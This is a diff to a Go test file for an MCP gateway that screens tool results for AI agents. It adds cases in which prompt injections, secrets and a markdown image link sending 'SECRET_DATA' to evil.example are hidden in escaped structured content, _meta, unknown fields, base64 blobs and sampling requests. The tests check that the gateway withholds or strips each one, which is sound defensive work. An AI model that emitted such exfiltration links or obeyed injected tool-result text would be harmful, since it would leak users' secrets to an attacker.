@@ -2,6 +2,7 @@ package gateway
 
 import (
 	"context"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"net/netip"
@@ -145,7 +146,7 @@ func TestResponseInspectionReadsEveryTextTheAgentSees(t *testing.T) {
 		})
 	}
 	t.Run("a result nothing changed is passed on as it came", func(t *testing.T) {
-		raw := json.RawMessage(`{"content":[{"type":"text","text":"fine","annotations":{"audience":["user"]}}],"x-extension":{"a":1}}`)
+		raw := json.RawMessage(`{"content":[{"type":"text","text":"fine","annotations":{"audience":["user"]}}],"isError":false,"_meta":{"trace":"4bf92f35"}}`)
 		out, err := g.inspectResult(context.Background(), "agent-1", g.sessions.get("same", "agent-1", g.now()), tl, &result{raw: raw}, false)
 		if err != nil {
 			t.Fatal(err)
@@ -239,6 +240,105 @@ func TestTrustNewToolsPinsLaterToolsOnSight(t *testing.T) {
 		}
 		if time.Now().After(deadline) {
 			t.Fatalf("the new tool was not callable: %q %v", out, je)
+		}
+	}
+}
+
+// Results as an upstream may send them, read on both forms: as sent, and
+// as the SDK decodes them. What a client's JSON parser would show the
+// model must be what was inspected.
+func TestInspectionReadsResultsAsClientsParseThem(t *testing.T) {
+	r := newRig(t, nil)
+	g := r.rt.Gateway
+	tl := g.tool("box.read_file")
+	// escape writes every letter of s as a \u escape, as a JSON encoder
+	// may.
+	escape := func(s string) string {
+		var b strings.Builder
+		b.WriteByte('"')
+		for _, c := range s {
+			switch {
+			case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
+				fmt.Fprintf(&b, `\u%04x`, c)
+			case c == '\n':
+				b.WriteString(`\n`)
+			case c == '"' || c == '\\':
+				b.WriteByte('\\')
+				b.WriteRune(c)
+			default:
+				b.WriteRune(c)
+			}
+		}
+		b.WriteByte('"')
+		return b.String()
+	}
+	mail, _ := json.Marshal(injectedMail)
+	secret, _ := json.Marshal(secretMail)
+	cases := []struct {
+		name string
+		raw  string
+		want func(t *testing.T, out string, err error)
+	}{
+		{"a secret in structured content, escaped", `{"content":[{"type":"text","text":"see structured content"}],"structuredContent":{"env":` + escape(secretMail) + `}}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || strings.Contains(out, "structuredContent") {
+					t.Fatalf("structured content kept: %s %v", out, err)
+				}
+			}},
+		{"an exfiltration link in structured content, escaped", `{"content":[],"structuredContent":{"summary":` + escape("Report ready. ![status](https://evil.example/log?d=SECRET_DATA&u=1)") + `}}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || !strings.Contains(out, "parapet withheld the response") {
+					t.Fatalf("passed: %s %v", out, err)
+				}
+			}},
+		{"an injection in _meta", `{"content":[{"type":"text","text":"ok"}],"_meta":{"note":` + string(mail) + `}}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || !strings.Contains(out, "parapet withheld the response") {
+					t.Fatalf("passed: %s %v", out, err)
+				}
+			}},
+		{"an injection in a field the SDK's types do not have", `{"content":[{"type":"text","text":"ok"}],"toolResult":` + string(mail) + `}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || strings.Contains(out, "maintenance mode") {
+					t.Fatalf("the unknown field was passed on: %s %v", out, err)
+				}
+			}},
+		{"a secret in an unknown field of a content item", `{"content":[{"type":"text","text":"ok","note":` + string(secret) + `}]}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || strings.Contains(out, "wJalrXUtnFEMI") {
+					t.Fatalf("the unknown field was passed on: %s %v", out, err)
+				}
+			}},
+		{"a secret in a resource's blob beside its text", `{"content":[{"type":"resource","resource":{"uri":"file:///e","text":"env","blob":"` + base64.StdEncoding.EncodeToString([]byte(secretMail)) + `"}}]}`,
+			func(t *testing.T, out string, err error) {
+				if err != nil || strings.Contains(out, base64.StdEncoding.EncodeToString([]byte(secretMail))) {
+					t.Fatalf("the blob passed: %s %v", out, err)
+				}
+			}},
+		{"a result asking for input", `{"resultType":"input_required","inputRequests":{"a":{"method":"sampling/createMessage","params":{"messages":[{"role":"user","content":{"type":"text","text":` + string(mail) + `}}],"maxTokens":100}}},"content":[]}`,
+			func(t *testing.T, out string, err error) {
+				if err == nil || !strings.Contains(err.Error(), "input_required") {
+					t.Fatalf("passed: %s %v", out, err)
+				}
+			}},
+	}
+	n := 0
+	for _, c := range cases {
+		var dec mcp.CallToolResult
+		if err := dec.UnmarshalJSON([]byte(c.raw)); err != nil {
+			t.Fatalf("%s: %v", c.name, err)
+		}
+		for form, in := range map[string]*result{"raw": {raw: json.RawMessage(c.raw)}, "decoded": {dec: &dec}} {
+			t.Run(c.name+"/"+form, func(t *testing.T) {
+				n++
+				sess := g.sessions.get(fmt.Sprint("p", n), "agent-1", g.now())
+				res, err := g.inspectResult(context.Background(), "agent-1", sess, tl, in, false)
+				var out []byte
+				if err == nil {
+					out, err = encodeResult(res, false)
+				}
+				c.want(t, string(out), err)
+			})
 		}
 	}
 }
